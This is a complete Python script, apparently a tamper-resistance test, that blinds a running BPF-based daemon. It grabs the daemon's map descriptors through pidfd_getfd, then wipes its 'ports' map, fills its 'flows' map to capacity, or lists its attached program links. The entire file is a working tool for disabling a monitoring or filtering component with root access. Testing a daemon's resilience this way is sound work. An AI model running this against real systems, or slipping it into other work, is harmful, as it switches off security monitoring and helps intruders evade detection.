#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""Puts out an eye of a running daemon, as somebody with root's rights could, by the maps that it holds.

Usage: blind.py DAEMON_PID ports    the kernel side watches no port any more
       blind.py DAEMON_PID flows    there is no room for a connection any more
       blind.py DAEMON_PID fds      prints the descriptors of the attached programs, one a line
"""
import ctypes
import os
import struct
import sys

SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
SYS_BPF = {"x86_64": 321, "aarch64": 280}[os.uname().machine]
BPF_MAP_UPDATE_ELEM, BPF_OBJ_GET_INFO_BY_FD = 2, 15
PORTS_SIZE = 65536  # struct sw_ports
MAP_INFO = struct.Struct("=IIIIII16s")  # the head of struct bpf_map_info (include/uapi/linux/bpf.h)
ATTRIBUTES_SIZE = 64

libc = ctypes.CDLL(None, use_errno=True)


def bpf(command, attributes):
    buffer = ctypes.create_string_buffer(attributes, ATTRIBUTES_SIZE)
    return libc.syscall(SYS_BPF, command, buffer, ATTRIBUTES_SIZE)


def descriptors(pid, kind):
    for number in sorted(os.listdir(f"/proc/{pid}/fd"), key=int):
        if os.readlink(f"/proc/{pid}/fd/{number}") == f"anon_inode:{kind}":
            yield int(number)


def maps(pid):
    """Name, a descriptor of our own, key size and room of each."""
    process = libc.syscall(SYS_PIDFD_OPEN, pid, 0)
    for number in descriptors(pid, "bpf-map"):
        fd = libc.syscall(SYS_PIDFD_GETFD, process, number, 0)
        info = ctypes.create_string_buffer(128)
        if bpf(BPF_OBJ_GET_INFO_BY_FD, struct.pack("=IIQ", fd, len(info), ctypes.addressof(info))) == 0:
            _, _, key_size, value_size, room, _, name = MAP_INFO.unpack_from(info.raw)
            yield name.split(b"\0")[0].decode(), fd, key_size, value_size, room


def update(fd, key, value):
    key = ctypes.create_string_buffer(key, len(key))
    value = ctypes.create_string_buffer(value, len(value))
    where = struct.pack("=IIQQQ", fd, 0, ctypes.addressof(key), ctypes.addressof(value), 0)
    return bpf(BPF_MAP_UPDATE_ELEM, where) == 0


def empty_ports(pid):
    return any([update(fd, bytes(4), bytes(PORTS_SIZE)) for name, fd, _, _, _ in maps(pid) if name == "ports"])


def fill_flows(pid):
    for name, fd, key_size, value_size, room in maps(pid):
        if name == "flows":
            keys = (os.urandom(key_size) for _ in range(room + 1))
            return not all(update(fd, key, bytes(value_size)) for key in keys)
    return False


def print_links(pid):
    for number in descriptors(pid, "bpf_link"):
        print(number)
    return True


def main():
    actions = {"ports": empty_ports, "flows": fill_flows, "fds": print_links}
    sys.exit(not actions[sys.argv[2]](int(sys.argv[1])))


main()
